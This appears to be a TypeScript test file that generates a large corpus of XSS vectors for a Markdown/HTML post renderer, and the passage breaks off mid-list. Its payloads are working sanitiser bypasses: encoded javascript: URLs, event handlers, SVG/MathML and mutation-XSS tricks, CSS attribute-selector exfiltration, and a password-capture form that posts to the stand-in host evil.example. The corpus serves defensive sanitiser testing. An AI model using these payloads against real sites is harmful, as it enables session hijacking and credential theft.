// A generated corpus of XSS vectors for renderPostBody (post bodies are
// Markdown with inline HTML). Every payload, if it ever ran, calls
// `window.__xss(<id>)` (or `alert(<id>)`), and every remote reference points
// at https://evil.example/<id>/..., so the browser harness can attribute an
// execution or an off-origin fetch to the exact vector.
//
// Vectors are written as templates with the placeholder ID; templates are
// de-duplicated before ids are assigned, so the count is of distinct payloads.

export interface XssVector {
  /** Positive integer, unique; appears in the payload. */
  readonly id: number;
  readonly category: string;
  /** The Markdown/HTML source a hostile user would post. */
  readonly source: string;
}

const CALL = 'window.__xss(ID)';
const EVIL = 'https://evil.example/ID';

// ---------------------------------------------------------------------------
// Encodings of a URL scheme as it would appear inside an HTML attribute.

function codes(s: string): number[] {
  return [...s].map((c) => c.codePointAt(0) ?? 0);
}

/** Named variants of `scheme:` (e.g. "javascript:") that browsers may still treat as that scheme. */
function schemeEncodings(scheme: string): Array<[string, string]> {
  const name = scheme.slice(0, -1); // without the colon
  const mid = Math.floor(name.length / 2);
  const split = (sep: string) => name.slice(0, mid) + sep + name.slice(mid) + ':';
  const alternating = [...scheme].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');
  return [
    ['plain', scheme],
    ['upper', scheme.toUpperCase()],
    ['mixed-case', alternating],
    ['dec-entities', codes(scheme).map((n) => `&#${n};`).join('')],
    ['dec-no-semicolon', codes(scheme).map((n) => `&#${n}`).join('')],
    ['dec-zero-padded', codes(scheme).map((n) => `&#${String(n).padStart(7, '0')};`).join('')],
    ['dec-zero-padded-no-semicolon', codes(scheme).map((n) => `&#${String(n).padStart(7, '0')}`).join('')],
    ['hex-entities', codes(scheme).map((n) => `&#x${n.toString(16)};`).join('')],
    ['hex-upper-no-semicolon', codes(scheme).map((n) => `&#X${n.toString(16).toUpperCase()}`).join('')],
    ['hex-zero-padded', codes(scheme).map((n) => `&#x${n.toString(16).padStart(6, '0')};`).join('')],
    ['first-letter-entity', `&#${codes(scheme)[0]};${scheme.slice(1)}`],
    ['named-colon', `${name}&colon;`],
    ['dec-colon', `${name}&#58;`],
    ['hex-colon-no-semicolon', `${name}&#x3a`],
    ['tab', split('\t')],
    ['tab-entity', split('&#9;')],
    ['tab-named', split('&Tab;')],
    ['newline', split('\n')],
    ['newline-entity', split('&#10;')],
    ['newline-named', split('&NewLine;')],
    ['cr-entity', split('&#x0D;')],
    ['nul-entity', split('&#0;')],
    ['nul-literal', split('\u0000')],
    ['leading-space', `  ${scheme}`],
    ['leading-control', `\u0001\u0008${scheme}`],
    ['leading-entity-control', `&#14;&#x20;${scheme}`],
    ['trailing-space-entity', `${scheme}&#32;`],
    ['html-comment', `${name.slice(0, mid)}<!-- -->${name.slice(mid)}:`],
  ];
}

/** Script bodies for each scheme; ID is substituted later. */
const SCHEME_PAYLOADS: Array<[string, string]> = [
  ['javascript:', CALL],
  ['vbscript:', 'msgbox(ID)'],
  ['data:', `text/html;base64,${btoaUtf8('<script>window.__xss(ID)</script>')}`],
];

// Base64 must be computed after ID is substituted (the id is inside the
// encoded text, and base64 output may itself contain the letters "ID"), so
// templates carry a marker that build() expands last.
function btoaUtf8(s: string): string {
  return `\u27e6b64:${s}\u27e7`;
}
const B64_MARKER = /\u27e6b64:([^\u27e7]*)\u27e7/g;

// ---------------------------------------------------------------------------

type Template = [category: string, source: string];

function urlSinkTemplates(): Template[] {
  const out: Template[] = [];
  // Full cross product for the three sinks that matter most.
  const mainSinks: Array<[string, (url: string) => string]> = [
    ['a-href', (u) => `<a href="${u}">click ID</a>`],
    ['iframe-src', (u) => `<iframe src="${u}"></iframe>`],
    ['a-href-unquoted-in-markdown', (u) => `Text with *emphasis* and <a href='${u}'>a link ID</a> inline.`],
  ];
  // The classic body variants for each dangerous scheme.
  for (const [scheme, body] of SCHEME_PAYLOADS) {
    for (const [encName, enc] of schemeEncodings(scheme)) {
      for (const [sinkName, sink] of mainSinks) {
        out.push([`url/${scheme.slice(0, -1)}/${encName}/${sinkName}`, sink(enc + body)]);
      }
    }
  }
  // Other URL-bearing attributes, with a few encodings each.
  const otherSinks: Array<[string, (url: string) => string]> = [
    ['form-action', (u) => `<form action="${u}"><button>submit ID</button></form>`],
    ['button-formaction', (u) => `<form><button formaction="${u}">go ID</button></form>`],
    ['input-formaction', (u) => `<form><input type="submit" formaction="${u}" value="go ID"></form>`],
    ['object-data', (u) => `<object data="${u}"></object>`],
    ['embed-src', (u) => `<embed src="${u}">`],
    ['area-href', (u) => `<map name="mID"><area shape="rect" coords="0,0,99,99" href="${u}"></map><img usemap="#mID" src="x">`],
    ['svg-a-xlink', (u) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${u}"><text x="10" y="20">svg link ID</text></a></svg>`],
    ['svg-a-href', (u) => `<svg><a href="${u}"><rect width="50" height="20"/></a></svg>`],
    ['math-href', (u) => `<math href="${u}"><mi>x</mi></math>`],
    ['img-src', (u) => `<img src="${u}">`],
    ['frame-src', (u) => `<frameset><frame src="${u}"></frameset>`],
    ['base-href', (u) => `<base href="${u}"><a href="/rel">rel ID</a>`],
    ['blockquote-cite', (u) => `<blockquote cite="${u}">quote ID</blockquote>`],
    ['meta-refresh', (u) => `<meta http-equiv="refresh" content="0;url=${u}">`],
  ];
  const someEncodings = new Set(['plain', 'mixed-case', 'dec-entities', 'tab-entity']);
  for (const [encName, enc] of schemeEncodings('javascript:')) {
    if (!someEncodings.has(encName)) continue;
    for (const [sinkName, sink] of otherSinks) out.push([`url/javascript/${encName}/${sinkName}`, sink(enc + CALL)]);
  }
  // Whole URL entity-encoded, the cheat-sheet classic.
  const whole = `javascript:${CALL}`;
  out.push(['url/javascript/whole-dec', `<a href="${codes(whole).map((n) => `&#${n};`).join('')}">x ID</a>`]);
  out.push(['url/javascript/whole-hex', `<a href="${codes(whole).map((n) => `&#x${n.toString(16)}`).join('')}">x ID</a>`]);
  out.push(['url/javascript/comment-newline', `<a href="javascript://%0a${CALL}">x ID</a>`]);
  out.push(['url/javascript/percent-colon', `<a href="javascript%3A${CALL}">x ID</a>`]);
  out.push(['url/data/plain-html', `<a href="data:text/html,<script>window.__xss(ID)</script>">x ID</a>`]);
  out.push(['url/data/svg', `<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss(ID)'/>">x ID</a>`]);
  out.push(['url/protocol-relative', `<a href="//evil.example/ID">x ID</a>`]);
  out.push(['url/protocol-relative-backslash', `<a href="/\\evil.example/ID">x ID</a>`]);
  out.push(['url/protocol-relative-backslashes', `<a href="\\\\evil.example/ID">x ID</a>`]);
  out.push(['url/protocol-relative-tab', `<a href="/&#9;/evil.example/ID">x ID</a>`]);
  out.push(['url/file', `<a href="file:///etc/passwd#ID">x ID</a>`]);
  return out;
}

function handlerTemplates(): Template[] {
  // Tags set up so that the handler has a natural trigger (load failure,
  // autofocus, animation, toggle) in addition to the harness's hover/click/focus.
  const tags: Array<[string, string, string]> = [
    ['img', '<img src="x" alt="ID" H>', ''],
    ['img-remote', `<img src="${EVIL}.png" H>`, ''],
    ['svg', '<svg width="20" height="20" H><rect width="20" height="20"/></svg>', ''],
    ['body', '<body H>', ''],
    ['iframe', '<iframe H></iframe>', ''],
    ['input-autofocus', '<input autofocus H>', ''],
    ['details-open', '<details open H><summary>s ID</summary>d</details>', ''],
    ['video', '<video src="x" H></video>', ''],
    ['audio', '<audio src="x" H></audio>', ''],
    ['marquee', '<marquee H>m ID</marquee>', ''],
    ['select-autofocus', '<select autofocus H><option>o</option></select>', ''],
    ['textarea-autofocus', '<textarea autofocus H>t</textarea>', ''],
    ['object', '<object data="x" H></object>', ''],
    ['custom-element', '<x-el tabindex="0" autofocus H>custom ID</x-el>', ''],
    ['div-animated', '<div style="animation:spin 1s" tabindex="0" H>anim ID</div>', ''],
    ['button', '<button autofocus H>b ID</button>', ''],
    // Allowed tags must keep nothing but their allowlisted attributes.
    ['p', '<p H>para ID</p>', ''],
    ['a', '<a href="https://example.org/" H>link ID</a>', ''],
    ['strong', '<strong tabindex="0" H>strong ID</strong>', ''],
    ['code', '<code class="language-js" H>code ID</code>', ''],
    ['td', '<table><tr><td H>cell ID</td></tr></table>', ''],
    ['h1', '<h1 autofocus tabindex="1" H>head ID</h1>', ''],
    ['li', '<ul><li H>item ID</li></ul>', ''],
    ['blockquote', '<blockquote H>q ID</blockquote>', ''],
  ];
  const handlers = [
    'onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onanimationstart',
    'onpointerenter', 'onfocusin',
  ];
  const out: Template[] = [];
  for (const [tagName, markup] of tags) {
    for (const h of handlers) out.push([`handler/${tagName}/${h}`, markup.replace('H', `${h}="${CALL}"`)]);
  }
  // Attribute-syntax variants of the same idea.
  const variants: Array<[string, string]> = [
    ['unquoted', `<img src=x onerror=${CALL}>`],
    ['single-quoted', `<img src=x onerror='${CALL}'>`],
    ['upper-case', `<IMG SRC=x ONERROR="${CALL}">`],
    ['mixed-case', `<iMg sRc=x oNeRrOr="${CALL}">`],
    ['slash-separated', `<img/src="x"/onerror="${CALL}">`],
    ['newline-around-equals', `<img src=x onerror\n=\n"${CALL}">`],
    ['spaces-around-equals', `<img src=x onerror  =  "${CALL}">`],
    ['entity-encoded-body', `<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__xss(ID)">`],
    ['hex-entity-body', `<img src=x onerror="window&#x2e;__xss&#x28;ID&#x29;">`],
    ['js-unicode-escape', `<img src=x onerror="window['\\u005f\\u005fxss'](ID)">`],
    ['eval-atob', `<img src=x onerror="eval(atob('${btoaUtf8('window.__xss(ID)')}'))">`],
    ['duplicate-attribute', `<img src=x onerror="${CALL}" onerror="${CALL}">`],
    ['self-closing', `<img src="x" alt="" onerror="${CALL}"/>`],
    ['no-space-before-handler', `<img src="x"onerror="${CALL}">`],
    ['svg-slash-onload', `<svg/onload=${CALL}>`],
    ['body-onpageshow', `<body onpageshow="${CALL}">`],
    ['style-onload', `<style onload="${CALL}"></style>`],
    ['link-onload', `<link rel="stylesheet" href="data:text/css," onload="${CALL}">`],
    ['video-source-onerror', `<video><source src="x" onerror="${CALL}"></video>`],
    ['input-image', `<input type="image" src="x" onerror="${CALL}">`],
    ['img-srcset', `<img srcset="x 1x" onerror="${CALL}">`],
    ['picture-source', `<picture><source srcset="${EVIL}.png"><img src="x" onerror="${CALL}"></picture>`],
    ['form-oninput', `<form oninput="${CALL}"><input autofocus value="x"></form>`],
    ['keygen', `<keygen autofocus onfocus="${CALL}">`],
    ['isindex', `<isindex type="image" src="x" onerror="${CALL}">`],
    ['contenteditable', `<div contenteditable onfocus="${CALL}" autofocus>edit ID</div>`],
    ['popover', `<button popovertarget="pID">p</button><div id="pID" popover onbeforetoggle="${CALL}">pop</div>`],
    ['onanimationend', `<style>@keyframes kID{}</style><i style="animation:kID 1ms" onanimationend="${CALL}">a</i>`],
    ['ontransitionend', `<i style="transition:color 1ms" onmouseover="this.style.color='red'" ontransitionend="${CALL}">t</i>`],
    ['onscroll', `<div style="height:10px;overflow:auto" onscroll="${CALL}"><br><br><br><br><span id="sID">x</span></div>`],
  ];
  for (const [name, src] of variants) out.push([`handler-syntax/${name}`, src]);
  return out;
}

function svgMathTemplates(): Template[] {
  const t: Array<[string, string]> = [
    ['svg/script', `<svg><script>${CALL}</script></svg>`],
    ['svg/script-href', `<svg><script href="data:,${CALL}"/></svg>`],
    ['svg/script-xlink', `<svg><script xlink:href="data:,${CALL}"></script></svg>`],
    ['svg/animate-onbegin', `<svg><animate onbegin="${CALL}" attributeName="x" dur="1s"/></svg>`],
    ['svg/set-onbegin', `<svg><set onbegin="${CALL}" attributeName="x" to="1"/></svg>`],
    ['svg/animate-href-js', `<svg><a><animate attributeName="href" values="javascript:${CALL}"/><text x="20" y="20">click ID</text></a></svg>`],
    ['svg/set-href-js', `<svg><a><set attributeName="href" to="javascript:${CALL}"/><text x="20" y="20">click ID</text></a></svg>`],
    ['svg/use-data', `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${CALL}'/&gt;&lt;/svg&gt;#x"/></svg>`],
    ['svg/use-remote', `<svg><use href="${EVIL}.svg#x"/></svg>`],
    ['svg/image-onerror', `<svg><image href="x" onerror="${CALL}"/></svg>`],
    ['svg/image-remote', `<svg><image href="${EVIL}.png"/></svg>`],
    ['svg/feimage-remote', `<svg><filter id="fID"><feImage href="${EVIL}.png"/></filter><rect filter="url(#fID)" width="9" height="9"/></svg>`],
    ['svg/foreignobject-iframe', `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__xss(ID)&lt;/script&gt;"></iframe></foreignObject></svg>`],
    ['svg/foreignobject-img', `<svg><foreignObject width="50" height="50"><img src="x" onerror="${CALL}"></foreignObject></svg>`],
    ['svg/style-import', `<svg><style>@import '${EVIL}.css';</style></svg>`],
    ['svg/title-img', `<svg><title><img src="x" onerror="${CALL}"></title></svg>`],
    ['svg/desc-img', `<svg><desc><img src="x" onerror="${CALL}"></desc></svg>`],
    ['svg/discard-onbegin', `<svg><discard onbegin="${CALL}"/></svg>`],
    ['svg/handler-element', `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${CALL}</handler></svg>`],
    ['svg/cdata-script', `<svg><script><![CDATA[${CALL}]]></script></svg>`],
    ['svg/entity-script', `<svg><script>window&#x2e;__xss(ID)</script></svg>`],
    ['svg/onload-nested', `<svg><g onload="${CALL}"><circle r="5"/></g></svg>`],
    ['svg/xlink-js', `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="JaVaScRiPt:${CALL}"><circle r="20"/></a></svg>`],
    ['math/href', `<math href="javascript:${CALL}"><mi>click ID</mi></math>`],
    ['math/mi-xlink', `<math><mi xlink:href="javascript:${CALL}">x ID</mi></math>`],
    ['math/maction', `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${CALL}">click ID</maction></math>`],
    ['math/annotation-xml-html', `<math><annotation-xml encoding="text/html"><img src="x" onerror="${CALL}"></annotation-xml></math>`],
    ['math/style-img', `<math><style><img src="x" onerror="${CALL}"></style></math>`],
    ['math/mtext-img', `<math><mtext><img src="x" onerror="${CALL}"></mtext></math>`],
    ['math/onclick', `<math onclick="${CALL}"><mn>ID</mn></math>`],
    ['math/mglyph-src', `<math><mglyph src="${EVIL}.png"/></math>`],
  ];
  return t;
}

function refreshBaseFormTemplates(): Template[] {
  const t: Array<[string, string]> = [
    ['base/remote', `<base href="${EVIL}/"><a href="rel">relative ID</a>`],
    ['base/js', `<base href="javascript:${CALL}//"><a href="/x">click ID</a>`],
    ['base/target', `<base target="_blank"><a href="https://example.org/">ID</a>`],
    ['meta/refresh-remote', `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
    ['meta/refresh-js', `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`],
    ['meta/refresh-data', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${btoaUtf8('<script>window.__xss(ID)</script>')}">`],
    ['meta/refresh-delayed', `<meta http-equiv="refresh" content="0.01; URL='${EVIL}'">`],
    ['meta/set-cookie', `<meta http-equiv="set-cookie" content="sid=ID">`],
    ['meta/charset-utf7', `<meta charset="UTF-7">+ADw-script+AD4-window.__xss(ID)+ADw-/script+AD4-`],
    ['link/stylesheet', `<link rel="stylesheet" href="${EVIL}.css">`],
    ['link/prefetch', `<link rel="prefetch" href="${EVIL}">`],
    ['link/preload', `<link rel="preload" as="image" href="${EVIL}.png">`],
    ['link/dns-prefetch', `<link rel="dns-prefetch" href="${EVIL}">`],
    ['link/import', `<link rel="import" href="${EVIL}.html">`],
    ['form/action-remote', `<form action="${EVIL}" method="post"><input name="x" value="y"><button>send ID</button></form>`],
    ['form/action-js-submit', `<form action="javascript:${CALL}"><input type="submit" value="go ID"></form>`],
    ['form/formaction-outside', `<form id="fID"></form><button form="fID" formaction="javascript:${CALL}">go ID</button>`],
    ['form/input-autofocus-onfocus', `<form><input autofocus onfocus="${CALL}"></form>`],
    ['form/textarea-password-capture', `<form action="${EVIL}"><input type="password" name="p" autocomplete="current-password"><button>login ID</button></form>`],
    ['form/dom-clobber', `<form name="__xss"><input name="call"></form><img name="getElementById" src="x" onerror="${CALL}">`],
    ['a/ping', `<a ping="${EVIL}" href="https://example.org/">ping ID</a>`],
    ['a/target-blank', `<a href="https://example.org/" target="_blank">tabnab ID</a>`],
    ['a/download', `<a href="data:text/html,x" download="x.html">dl ID</a>`],
    ['media/video-poster', `<video poster="${EVIL}.png"></video>`],
    ['media/audio-autoplay', `<audio src="${EVIL}.mp3" autoplay></audio>`],
    ['media/track', `<video><track default src="${EVIL}.vtt"></video>`],
    ['media/object', `<object data="${EVIL}.swf"></object>`],
    ['media/embed', `<embed src="${EVIL}.swf">`],
    ['media/iframe-remote', `<iframe src="${EVIL}"></iframe>`],
    ['media/iframe-srcdoc', `<iframe srcdoc="&lt;script&gt;parent.__xss(ID)&lt;/script&gt;"></iframe>`],
    ['media/img-srcset-remote', `<img srcset="${EVIL}.png 1x">`],
    ['media/body-background', `<body background="${EVIL}.png">`],
    ['media/table-background', `<table background="${EVIL}.png"><tr><td>t ID</td></tr></table>`],
    ['media/input-image-remote', `<input type="image" src="${EVIL}.png">`],
    ['script/remote', `<script src="${EVIL}.js"></script>`],
    ['script/inline', `<script>${CALL}</script>`],
    ['script/module', `<script type="module">${CALL}</script>`],
    ['script/case', `<ScRiPt>${CALL}</sCrIpT>`],
    ['script/split-nested', `<scr<script>x</script>ipt>${CALL}</scr<script>x</script>ipt>`],
    ['script/template', `<template><script>${CALL}</script></template>`],
  ];
  return t;
}

function cssTemplates(): Template[] {
  const t: Array<[string, string]> = [
    ['css/url-remote', `<div style="background:url(${EVIL}.png)">css ID</div>`],
    ['css/url-js', `<div style="background-image:url(javascript:${CALL})">css ID</div>`],
    ['css/url-entity-js', `<div style="background:url(&#x6a;avascript:${CALL})">css ID</div>`],
    ['css/expression', `<div style="width:expression(${CALL})">css ID</div>`],
    ['css/expression-comment', `<div style="x:exp/**/ression(${CALL})">css ID</div>`],
    ['css/expression-escape', `<div style="x:\\65 xpression(${CALL})">css ID</div>`],
    ['css/behavior', `<div style="behavior:url(${EVIL}.htc)">css ID</div>`],
    ['css/moz-binding', `<div style="-moz-binding:url(${EVIL}.xml#x)">css ID</div>`],
    ['css/escaped-url', `<div style="background:\\75 rl(${EVIL}.png)">css ID</div>`],
    ['css/list-style-image', `<ul><li style="list-style-image:url(${EVIL}.png)">css ID</li></ul>`],
    ['css/overlay', `<p style="position:fixed;inset:0;z-index:9999;background:white" onmouseover="${CALL}">overlay ID</p>`],
    ['css/allowed-tag-style', `<td style="text-align:left;background:url(${EVIL}.png)">cell ID</td>`],
    ['css/style-import', `<style>@import '${EVIL}.css';</style>`],
    ['css/style-import-url', `<style>@import url("${EVIL}.css");</style>`],
    ['css/style-background', `<style>body{background:url("${EVIL}.png")}</style>`],
    ['css/style-font-face', `<style>@font-face{font-family:fID;src:url(${EVIL}.woff)}p{font-family:fID}</style><p>font ID</p>`],
    ['css/style-keyframes-handler', `<style>@keyframes kID{}</style><div style="animation-name:kID" onanimationstart="${CALL}">k ID</div>`],
    ['css/style-comment-breakout', `<style><!--</style><img src="x" onerror="${CALL}">--></style>`],
    ['css/style-attr-selector-exfil', `<style>input[value^="a"]{background:url(${EVIL}/a)}</style>`],
    ['css/style-in-markdown', `# Heading\n\n<style>h1{background:url(${EVIL}.png)}</style>\n\ntext`],
    ['css/class-hijack', `<p class="admin-banner modal-overlay" id="main">class ID</p>`],
    ['css/style-cdata', `<style><![CDATA[</style><img src="x" onerror="${CALL}">]]></style>`],
  ];
  return t;
}

function mutationTemplates(): Template[] {
  const img = `<img src=x onerror=${CALL}>`;
  const t: Array<[string, string]> = [
    ['mxss/noscript-title', `<noscript><p title="</noscript>${img}">`],
    ['mxss/noscript-style', `<noscript><style></noscript>${img}</style>`],
    ['mxss/svg-p-style', `<svg></p><style><a id="</style>${img}">`],
    ['mxss/svg-style', `<svg><style>${img}`],
    ['mxss/math-mtext-table-mglyph', `<math><mtext><table><mglyph><style>${img}`],
    ['mxss/math-mtext-mglyph-comment', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`],
    ['mxss/form-math', `<form><math><mtext></form><form><mglyph><style></math>${img}`],
    ['mxss/math-textarea-path', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${img}">`],
    ['mxss/template-style', `<template><style></template>${img}</style>`],
    ['mxss/xmp-title', `<xmp><p title="</xmp>${img}">`],
    ['mxss/iframe-title', `<iframe><p title="</iframe>${img}">`],
    ['mxss/noembed-title', `<noembed><p title="</noembed>${img}">`],
    ['mxss/noframes-title', `<noframes><p title="</noframes>${img}">`],
    ['mxss/textarea-title', `<textarea><p title="</textarea>${img}">`],
    ['mxss/title-title', `<title><p title="</title>${img}">`],
    ['mxss/style-title', `<style><p title="</style>${img}">`],
    ['mxss/plaintext', `<plaintext>${img}`],
    ['mxss/option-style', `<select><option><style></option></select>${img}</style>`],
    ['mxss/select-style', `<select><style>${img}</style></select>`],
    ['mxss/svg-p-breakout', `<svg><p><style>${img}`],
    ['mxss/table-svg', `<table><svg><style></table>${img}`],
    ['mxss/attr-with-markup', `<a title="${img}">t ID</a>`],
    ['mxss/attr-escaped-markup', `<p title="&lt;/p&gt;&lt;img src=x onerror=${CALL}&gt;">p ID</p>`],
    ['mxss/backtick-attr', '<p title=`x` onclick=`' + CALL + '`>b ID</p>'],
    ['mxss/svg-foreign-html-integration', `<svg><foreignObject><math><style>${img}</style></math></foreignObject></svg>`],
    ['mxss/nested-a', `<a href="https://example.org/"><a title="</a>${img}">n ID</a></a>`],
    ['mxss/double-encoded', `&lt;img src=x onerror=${CALL}&gt; &amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`],
    ['mxss/numeric-lt', `&#60;img src=x onerror=${CALL}&#62;`],
    ['mxss/pre-newline', `<pre>\n<img src=x onerror=${CALL}></pre>`],
    ['mxss/noscript-in-svg', `<svg><noscript><img src=x onerror=${CALL}></noscript></svg>`],
  ];
  return t;
}

function malformedTemplates(): Template[] {
  const t: Array<[string, string]> = [
    ['unclosed/img-eof', `<img src=x onerror=${CALL}`],
    ['unclosed/img-quoted-eof', `<img src=x onerror="${CALL}"`],
    ['unclosed/double-lt', `<<img src=x onerror=${CALL}>>`],
    ['unclosed/script-double-lt', `<<script>${CALL};//<</script>`],
    ['unclosed/img-comment', `<img src=x onerror=${CALL}//`],
    ['unclosed/quote-soup', `<img """><script>${CALL}</script>">`],
    ['unclosed/open-quote', `<a href="https://example.org/" onmouseover="${CALL}`],
    ['unclosed/tag-in-tag', `<b <img src=x onerror=${CALL}>>bold ID</b>`],
    ['unclosed/div-soup', `<div><img src=x onerror=${CALL}<div>`],
    ['unclosed/iframe-js-lt', `<iframe src=javascript:${CALL} <`],
    ['unclosed/vertical-tab', `<img src=x onerror\u000b=${CALL}>`],
    ['unclosed/nul-in-name', `<img src=x on\u0000error=${CALL}>`],
    ['unclosed/svg-slash', `<svg/onload=${CALL}`],
    ['unclosed/script-no-gt', `<script>${CALL}</script`],
    ['unclosed/closing-tag-attrs', `</p onclick=${CALL}><p>x ID</p>`],
    ['unclosed/deep-nesting', `${'<b>'.repeat(150)}${img()}${'</b>'.repeat(150)}`],
    ['unclosed/deep-blockquote', `${'> '.repeat(120)}${img()}`],
    ['unclosed/slash-garbage', `<img src=x / / / onerror=${CALL} / />`],
    ['unclosed/attr-no-value', `<img src onerror=${CALL}>`],
    ['unclosed/bad-attr-chars', `<img src=x "onerror"=${CALL} 'a'=b>`],
    ['comment/empty-gt', `<!--><img src=x onerror=${CALL}>-->`],
    ['comment/dash-gt', `<!---><img src=x onerror=${CALL}>-->`],
    ['comment/bang-close', `<!-- --!><img src=x onerror=${CALL}> -->`],
    ['comment/conditional', `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`],
    ['comment/inside-attr', `<!--<img src="--><img src=x onerror=${CALL}//">`],
    ['comment/in-svg', `<svg><!--<img src=x onerror=${CALL}>--></svg>`],
    ['comment/unterminated', `<!-- <img src=x onerror=${CALL}>`],
    ['comment/after-close', `</foo><!--x--><img src=x onerror=${CALL}>`],
    ['cdata/html', `<![CDATA[><img src=x onerror=${CALL}>]]>`],
    ['cdata/svg', `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`],
    ['cdata/math', `<math><![CDATA[</math><img src=x onerror=${CALL}>]]></math>`],
    ['pi/processing-instruction', `<? foo="><script>${CALL}</script>">`],
    ['pi/xml-decl', `<?xml version="1.0"?><img src=x onerror=${CALL}>`],
    ['doctype/inline', `<!DOCTYPE html><img src=x onerror=${CALL}>`],
    ['doctype/bogus', `<!x><img src=x onerror=${CALL}>`],
  ];
  return t;
}

function img(): string {
  return `<img src=x onerror=${CALL}>`;
}

function markdownTemplates(): Template[] {
  const t: Array<[string, string]> = [
    ['md/link-js', `[x ID](javascript:${CALL})`],
    ['md/link-js-mixed-case', `[x ID](JaVaScRiPt:${CALL})`],
    ['md/link-js-dec-entity', `[x ID](&#106;avascript:${CALL})`],
    ['md/link-js-hex-entity', `[x ID](&#x6A;avascript:${CALL})`],
    ['md/link-js-colon-entity', `[x ID](javascript&colon;${CALL})`],
    ['md/link-js-angle', `[x ID](<javascript:${CALL}>)`],
    ['md/link-js-spaces', `[x ID](   javascript:${CALL}   )`],
    ['md/link-js-escaped-colon', `[x ID](javascript\\:${CALL})`],
    ['md/link-js-percent', `[x ID](javascript:window.__xss%28ID%29)`],
    ['md/link-js-percent-newline', `[x ID](java%0ascript:${CALL})`],
    ['md/link-js-comment', `[x ID](javascript://%0a${CALL})`],
    ['md/link-js-title', `[x ID](javascript:${CALL} "title")`],
    ['md/link-vbscript', `[x ID](vbscript:msgbox(ID))`],
    ['md/link-data-html', `[x ID](data:text/html;base64,${btoaUtf8('<script>window.__xss(ID)</script>')})`],
    ['md/link-data-image', `[x ID](data:image/png;base64,iVBORw0KGgo=)`],
    ['md/link-data-svg', `[x ID](data:image/svg+xml;base64,${btoaUtf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`)})`],
    ['md/link-protocol-relative', `[x ID](//evil.example/ID)`],
    ['md/link-backslash-relative', `[x ID](/\\evil.example/ID)`],
    ['md/link-file', `[x ID](file:///etc/passwd)`],
    ['md/ref-js', `[x ID][r]\n\n[r]: javascript:${CALL}`],
    ['md/ref-js-angle', `[x ID][r]\n\n[r]: <javascript:${CALL}>`],
    ['md/ref-shortcut-upper', `[r]\n\n[r]: JAVASCRIPT:${CALL} "t"`],
    ['md/ref-collapsed-entity', `[r][]\n\n[r]: &#x6a;avascript:${CALL}`],
    ['md/ref-title-breakout', `[r]\n\n[r]: https://example.org/ "a\\" onmouseover=\\"${CALL}"`],
    ['md/image-remote', `![x ID](${EVIL}/beacon.png)`],
    ['md/image-js', `![x ID](javascript:${CALL})`],
    ['md/image-data', `![x ID](data:image/png;base64,iVBORw0KGgo=)`],
    ['md/image-title-handler', `![x ID](${EVIL}.png "onerror=${CALL}")`],
    ['md/image-title-breakout', `![x ID](${EVIL}.png "\\" onerror=\\"${CALL}")`],
    ['md/image-alt-breakout', `![x" onerror="${CALL}](${EVIL}.png)`],
    ['md/image-alt-html', `![<img src=x onerror=${CALL}>](${EVIL}.png)`],
    ['md/image-ref', `![x ID][img]\n\n[img]: ${EVIL}.png`],
    ['md/image-in-link', `[![x ID](${EVIL}.png)](javascript:${CALL})`],
    ['md/image-in-good-link', `[![x ID](${EVIL}.png)](https://example.org/)`],
    ['md/autolink-js', `<javascript:${CALL}>`],
    ['md/autolink-js-upper', `<JAVASCRIPT:${CALL}>`],
    ['md/autolink-vbscript', `<vbscript:msgbox(ID)>`],
    ['md/autolink-data', `<data:text/html;base64,${btoaUtf8('<script>window.__xss(ID)</script>')}>`],
    ['md/autolink-https', `<https://evil.example/ID>`],
    ['md/autolink-protocol-relative', `<//evil.example/ID>`],
    ['md/autolink-quote', `<https://evil.example/ID"onmouseover="${CALL}>`],
    ['md/autolink-email-breakout', `<a"onmouseover="${CALL}"@evil.example>`],
    ['md/linkify-quote', `https://evil.example/ID"onmouseover="${CALL}"`],
    ['md/linkify-html', `www.evil.example/ID"><img src=x onerror=${CALL}>`],
    ['md/linkify-js', `javascript:${CALL}`],
    ['md/title-handler', `[a ID](http://x "onmouseover=${CALL}")`],
    ['md/title-dq-breakout', `[a ID](http://x "\\" onmouseover=\\"${CALL}")`],
    ['md/title-sq-breakout', `[a ID](http://x 'a" onmouseover="${CALL}')`],
    ['md/title-paren-breakout', `[a ID](http://x (a" onmouseover="${CALL}))`],
    ['md/text-breakout', `[a" onmouseover="${CALL}](http://x)`],
    ['md/dest-quote', `[a ID](http://x"onmouseover="${CALL})`],
    ['md/inline-code', `\`<img src=x onerror=${CALL}>\``],
    ['md/code-block', `\`\`\`\n<img src=x onerror=${CALL}>\n\`\`\``],
    ['md/indented-code', `    <script>${CALL}</script>`],
    ['md/fence-info-breakout', `\`\`\`js" onmouseover="${CALL}\nx\n\`\`\``],
    ['md/fence-info-html', `\`\`\`<img src=x onerror=${CALL}>\nx\n\`\`\``],
    ['md/fence-info-class', '```js foo" class="x\ncode ID\n```'],
    ['md/table-cell', `| a | b |\n|:-|-:|\n| <img src=x onerror=${CALL}> | [x](javascript:${CALL}) |`],
    ['md/blockquote-html', `> <img src=x onerror=${CALL}>\n> **q** ID`],
    ['md/heading-html', `# <svg onload=${CALL}> heading ID`],
    ['md/list-html', `* <details open ontoggle=${CALL}>\n* item ID`],
    ['md/html-block-markdown', `<div>\n\n[x ID](javascript:${CALL})\n\n</div>`],
